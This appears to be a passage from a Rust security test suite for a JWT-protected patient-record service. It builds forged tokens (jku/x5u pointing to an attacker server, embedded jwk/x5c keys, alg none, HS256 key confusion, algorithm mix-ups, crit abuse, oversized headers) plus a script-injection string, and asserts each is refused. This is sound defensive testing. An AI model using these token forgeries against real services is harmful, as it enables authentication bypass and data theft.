    let ec_key = ec_signer(&ec);
    let rsa_key = rsa_signer(ATTACKER_RSA_KEY);
    let jwks = json!({"keys": [ec_jwk(&ec, Some("attacker-ec-1")), attacker_rsa_jwk()]});
    // The attacker's server: their keys, their certificate.
    let (evil, evil_fetches) = serve(jwks.to_string());
    let cert = STANDARD.encode(pem_der(ATTACKER_RSA_CERT));

    let mut attacks = Vec::new();
    for kid in [None, Some("attacker-ec-1".to_owned()), Some(dev_kid())] {
        let carried = [
            ("jku", json!(format!("{evil}/jwks.json"))),
            ("x5u", json!(format!("{evil}/cert.pem"))),
            ("jwk", ec_jwk(&ec, kid.as_deref())),
        ];
        for (member, value) in carried {
            let mut header = json!({"alg": "ES256", "typ": "JWT"});
            header[member] = value;
            if let Some(kid) = &kid {
                header["kid"] = json!(kid);
            }
            let token = sign(&header, &claims(), Algorithm::ES256, &ec_key);
            attacks.push(attack(format!("ES256 {member}, kid {kid:?}"), &token));
        }
    }
    for kid in [
        None,
        Some(ATTACKER_RSA_KID.to_owned()),
        Some(TRUSTED_RSA_KID.to_owned()),
    ] {
        let carried = [
            ("jku", json!(format!("{evil}/jwks.json"))),
            ("x5u", json!(format!("{evil}/cert.pem"))),
            ("jwk", attacker_rsa_jwk()),
            ("x5c", json!([cert])),
        ];
        for (member, value) in carried {
            let mut header = json!({"alg": "RS256", "typ": "JWT"});
            header[member] = value;
            if let Some(kid) = &kid {
                header["kid"] = json!(kid);
            }
            let token = sign(&header, &claims(), Algorithm::RS256, &rsa_key);
            attacks.push(attack(format!("RS256 {member}, kid {kid:?}"), &token));
        }
    }
    // All four at once.
    let header = json!({"alg": "RS256", "kid": ATTACKER_RSA_KID,
        "jku": format!("{evil}/jwks.json"), "x5u": format!("{evil}/cert.pem"),
        "jwk": attacker_rsa_jwk(), "x5c": [cert]});
    attacks.push(attack(
        "jku, x5u, jwk and x5c",
        &sign(&header, &claims(), Algorithm::RS256, &rsa_key),
    ));
    assert_all_refused(&app, &attacks).await;

    std::thread::sleep(Duration::from_millis(200));
    assert_eq!(
        evil_fetches.load(Ordering::SeqCst),
        0,
        "the attacker's URL was fetched"
    );
    // The configured URL source works (it was fetched, and its key verifies).
    let header = json!({"alg": "RS256", "kid": TRUSTED_RSA_KID});
    let token = sign(
        &header,
        &claims(),
        Algorithm::RS256,
        &rsa_signer(TRUSTED_RSA_KEY),
    );
    assert_accepted(&app, &token, "RS256 from the configured JWKS URL").await;
    assert!(configured_fetches.load(Ordering::SeqCst) >= 1);
    assert_accepted(&app, &genuine(&claims()), "control").await;
}

/// A genuine token padded (with a claim) to exactly `len` bytes.
fn genuine_of_length(len: usize) -> String {
    for typ in ["JWT", "JWTx", "JWTxx", "JWTxxx"] {
        let header = json!({"alg": "ES256", "typ": typ, "kid": dev_kid()});
        let base = sign(&header, &claims(), Algorithm::ES256, &dev_signer()).len();
        let mut pad = (len.saturating_sub(base) * 3 / 4).saturating_sub(16);
        loop {
            let token = sign(
                &header,
                &with(claims(), "pad", json!("x".repeat(pad))),
                Algorithm::ES256,
                &dev_signer(),
            );
            match token.len() {
                l if l == len => return token,
                l if l > len => break,
                _ => pad += 1,
            }
        }
    }
    panic!("no token of exactly {len} bytes")
}

#[tokio::test]
async fn oversized_tokens_and_authorization_headers_are_refused() {
    let app = dev_app().await;
    let largest = genuine_of_length(MAX_TOKEN_BYTES);
    assert_accepted(&app, &largest, "a genuine token of MAX_TOKEN_BYTES").await;
    let attacks = [
        attack(
            "genuine, one byte too long",
            &genuine_of_length(MAX_TOKEN_BYTES + 1),
        ),
        attack("genuine, 64 KB", &genuine_of_length(64 * 1024)),
        attack("16 KB + 1 of base64url", &"A".repeat(MAX_TOKEN_BYTES + 1)),
        (
            "100 KB header".into(),
            format!("Bearer {}", "A".repeat(100 * 1024)),
        ),
        ("100 KB header, no scheme".into(), "A".repeat(100 * 1024)),
        (
            "100 KB of dots".into(),
            format!("Bearer {}", ".".repeat(100 * 1024)),
        ),
    ];
    assert_all_refused(&app, &attacks).await;

    // Far beyond what the HTTP server reads as a request head (actix-http
    // gives up somewhere between 200 KB and 1 MB), the request is refused
    // before any handler: 431, or the connection is reset. Never data.
    let huge = format!("Bearer {}", genuine_of_length(1024 * 1024));
    match app
        .client
        .get(app.url(PATH))
        .header("Authorization", huge)
        .header("X-Request-ID", uuid::Uuid::new_v4().to_string())
        .send()
        .await
    {
        Ok(response) => {
            assert_eq!(response.status(), 431);
            let text = response.text().await.unwrap_or_default();
            assert!(!text.contains("Smith"), "{text}");
        }
        Err(e) => assert!(e.is_request() && !e.is_timeout(), "{e:?}"),
    }
    assert_accepted(&app, &genuine(&claims()), "control after the huge header").await;
}

#[tokio::test]
async fn rsa_tokens_from_an_attacker_key_are_refused_whatever_kid_they_name() {
    let attacker = rsa_signer(ATTACKER_RSA_KEY);
    let mut attacks = Vec::new();
    for alg in [Algorithm::RS256, Algorithm::RS512, Algorithm::PS256] {
        for kid in [
            Some(dev_kid()),
            Some(TRUSTED_RSA_KID.to_owned()),
            Some(ATTACKER_RSA_KID.to_owned()),
            None,
        ] {
            let mut header = json!({"alg": format!("{alg:?}"), "typ": "JWT"});
            if let Some(kid) = &kid {
                header["kid"] = json!(kid);
            }
            let token = sign(&header, &claims(), alg, &attacker);
            attacks.push(attack(
                format!("{alg:?} by the attacker, kid {kid:?}"),
                &token,
            ));
        }
    }
    // The dev server trusts no RSA key at all.
    let dev = dev_app().await;
    assert_all_refused(&dev, &attacks).await;
    // This one trusts `rsa-test-1`: the attacker's signature still fails.
    let rsa = rsa_app().await;
    assert_all_refused(&rsa, &attacks).await;
    let header = json!({"alg": "RS256", "kid": TRUSTED_RSA_KID});
    let token = sign(
        &header,
        &claims(),
        Algorithm::RS256,
        &rsa_signer(TRUSTED_RSA_KEY),
    );
    assert_accepted(&rsa, &token, "control: the trusted RSA key").await;
}

#[tokio::test]
async fn critical_header_extensions_are_refused() {
    let app = dev_app().await;
    let crits = [
        json!({"crit": ["exp"]}),
        json!({"crit": ["b64"], "b64": false}),
        json!({"crit": ["b64"], "b64": true}),
        json!({"crit": ["https://example.com/ext"], "https://example.com/ext": true}),
        json!({"crit": ["https://example.com/unlisted"]}),
        json!({"crit": []}),
        json!({"crit": "exp"}),
        json!({"crit": null}),
        json!({"crit": ["kid"]}),
    ];
    let mut attacks = Vec::new();
    for extra in crits {
        let mut header = dev_header();
        for (k, v) in extra.as_object().into_iter().flatten() {
            header[k] = v.clone();
        }
        // Signed by the trusted key: only the crit is wrong.
        let token = sign(&header, &claims(), Algorithm::ES256, &dev_signer());
        attacks.push(attack(format!("{extra}"), &token));
    }
    assert_all_refused(&app, &attacks).await;
    assert_accepted(&app, &genuine(&claims()), "control").await;
}

#[tokio::test]
async fn algorithm_family_confusion_is_refused() {
    let app = rsa_app().await;
    let dev = dev_signer();
    let rsa = rsa_signer(TRUSTED_RSA_KEY);
    let mut attacks = Vec::new();
    // A trusted key's signature under a header naming another algorithm
    // (the same key, a different verifier).
    for (alg, signed_with, key, kid) in [
        ("PS256", Algorithm::ES256, &dev, dev_kid()),
        ("RS256", Algorithm::ES256, &dev, dev_kid()),
        ("ES256", Algorithm::RS256, &rsa, TRUSTED_RSA_KID.to_owned()),
        ("ES256", Algorithm::PS256, &rsa, TRUSTED_RSA_KID.to_owned()),
        ("PS256", Algorithm::RS256, &rsa, TRUSTED_RSA_KID.to_owned()),
        ("RS256", Algorithm::PS256, &rsa, TRUSTED_RSA_KID.to_owned()),
        ("RS256", Algorithm::RS512, &rsa, TRUSTED_RSA_KID.to_owned()),
        ("ES384", Algorithm::ES256, &dev, dev_kid()),
        ("ES512", Algorithm::ES256, &dev, dev_kid()),
        ("ES256K", Algorithm::ES256, &dev, dev_kid()),
        ("EdDSA", Algorithm::ES256, &dev, dev_kid()),
        ("RS384", Algorithm::RS256, &rsa, TRUSTED_RSA_KID.to_owned()),
        ("PS384", Algorithm::PS256, &rsa, TRUSTED_RSA_KID.to_owned()),
        ("PS512", Algorithm::PS256, &rsa, TRUSTED_RSA_KID.to_owned()),
        (
            "RSA-OAEP",
            Algorithm::RS256,
            &rsa,
            TRUSTED_RSA_KID.to_owned(),
        ),
        ("es256", Algorithm::ES256, &dev, dev_kid()),
        ("ES256 ", Algorithm::ES256, &dev, dev_kid()),
        ("rs256", Algorithm::RS256, &rsa, TRUSTED_RSA_KID.to_owned()),
    ] {
        let header = json!({"alg": alg, "typ": "JWT", "kid": kid});
        let token = sign(&header, &claims(), signed_with, key);
        attacks.push(attack(
            format!("alg {alg} with a {signed_with:?} signature by {kid}"),
            &token,
        ));
    }
    // The right algorithm for the signature, the wrong key type for the kid.
    for (alg, key, kid) in [
        (
            Algorithm::ES256,
            &ec_signer(&attacker_ec()),
            TRUSTED_RSA_KID.to_owned(),
        ),
        (Algorithm::PS256, &rsa_signer(ATTACKER_RSA_KEY), dev_kid()),
        (Algorithm::RS256, &rsa, dev_kid()),
        (Algorithm::PS256, &rsa, dev_kid()),
        (Algorithm::ES256, &dev, TRUSTED_RSA_KID.to_owned()),
    ] {
        let header = json!({"alg": format!("{alg:?}"), "kid": kid});
        let token = sign(&header, &claims(), alg, key);
        attacks.push(attack(format!("{alg:?} naming {kid}"), &token));
    }
    assert_all_refused(&app, &attacks).await;
    assert_accepted(&app, &genuine(&claims()), "control: ES256").await;
    let token = sign(
        &json!({"alg": "PS256", "kid": TRUSTED_RSA_KID}),
        &claims(),
        Algorithm::PS256,
        &rsa,
    );
    assert_accepted(&app, &token, "control: PS256").await;
}

#[tokio::test]
async fn refused_attacks_are_in_the_audit_trail_as_unauthenticated() {
    let app = dev_app().await;
    let c = claims();
    let attacks = [
        attack("alg none", &with_signature(&json!({"alg": "none"}), &c, "")),
        attack(
            "forged",
            &sign(
                &dev_header(),
                &c,
                Algorithm::ES256,
                &ec_signer(&attacker_ec()),
            ),
        ),
        attack(
            "expired",
            &genuine(&with(claims(), "exp", json!(now() - 3600))),
        ),
        attack(
            "HS256 with the public key",
            &sign(
                &json!({"alg": "HS256"}),
                &c,
                Algorithm::HS256,
                &EncodingKey::from_secret(dev_keys().jwks_json().as_bytes()),
            ),
        ),
    ];
    let mut ids = Vec::new();
    for (name, authorization) in &attacks {
        let id = uuid::Uuid::new_v4().to_string();
        let answer = send_with_id(&app, authorization, &id).await;
        assert_eq!(not_refused(&answer), None, "{name}");
        ids.push((name, id));
    }
    let genuine_id = uuid::Uuid::new_v4().to_string();
    let answer = send_with_id(&app, &bearer(&genuine(&claims())), &genuine_id).await;
    assert_eq!(answer.status, 200);

    assert!(app.auditor.flush(Duration::from_secs(10)));
    let find = |id: &str| app.audit_of(id).pop();
    for (name, id) in &ids {
        let row = find(id).unwrap_or_else(|| panic!("{name}: not audited"));
        assert_eq!(
            row.access_mode.as_deref(),
            Some("unauthenticated"),
            "{name}"
        );
        assert_eq!(row.status, 401, "{name}");
        assert_eq!(row.nhs_number, Some(9000000009), "{name}");
        assert_eq!(row.level, None, "{name}");
        assert_eq!(
            row.user_id, None,
            "{name}: claims of a refused token are not trusted"
        );
    }
    let ok = find(&genuine_id).expect("the genuine read is audited");
    assert_eq!(ok.access_mode.as_deref(), Some("healthcare-worker"));
    assert_eq!(ok.status, 200);
}

#[tokio::test]
async fn an_exp_beyond_the_clock_does_not_crash_the_server() {
    // Signed by the trusted key: an issuer's exp from 2^63 s on once made
    // `UNIX_EPOCH + exp` panic in the verifier's cache and drop the
    // connection. The token is as valid as its signer says (never expiring);
    // the point is a well-formed answer, every time, and a working server.
    let app = dev_app().await;
    for exp in [
        json!(1u64 << 62),
        json!(1u64 << 63),
        json!(u64::MAX),
        json!(1e19),
    ] {
        let token = genuine(&with(claims(), "exp", exp.clone()));
        assert_accepted(&app, &token, &format!("exp {exp}")).await;
        assert_accepted(&app, &token, &format!("exp {exp}, cached")).await;
    }
    // Beyond what a JSON number can be read as: refused as malformed.
    let token = genuine(&with(claims(), "exp", json!(1e300)));
    assert_all_refused(&app, &[attack("exp 1e300", &token)]).await;
    assert_accepted(&app, &genuine(&claims()), "control").await;
}

#[tokio::test]
async fn what_is_not_a_bearer_scheme_is_not_echoed_back() {
    // "Invalid token type '<scheme>'" once named whatever came before the
    // first space: a token sent without "Bearer " came back whole (and went
    // into the log), and so did 100 KB of anything.
    let app = dev_app().await;
    let token = genuine(&claims());
    let attacks = [
        ("a genuine token without a scheme".to_owned(), token.clone()),
        (
            "a genuine token after a long scheme".to_owned(),
            format!("{} {token}", "X".repeat(33)),
        ),
        (
            "markup as the scheme".to_owned(),
            "<script>alert(1)</script> x".to_owned(),
        ),
        ("a quote in the scheme".to_owned(), "Bearer\" x".to_owned()),
        (
            "a comma-separated scheme".to_owned(),
            format!("Basic,Bearer {token}"),
        ),
    ];
    assert_all_refused(&app, &attacks).await;
    // A short, well-formed scheme is still named, as PDS does.
    let answer = send(&app, &format!("Basic {token}")).await;
    assert_eq!(answer.status, 401);
    assert_eq!(spine_code(&answer.body), "ACCESS_DENIED");
    assert_eq!(
        answer.body["issue"][0]["diagnostics"],
        "Invalid token type 'Basic', must be 'Bearer'"
    );
    assert!(!reflects(&answer, &token));
    assert_accepted(&app, &token, "control").await;
}
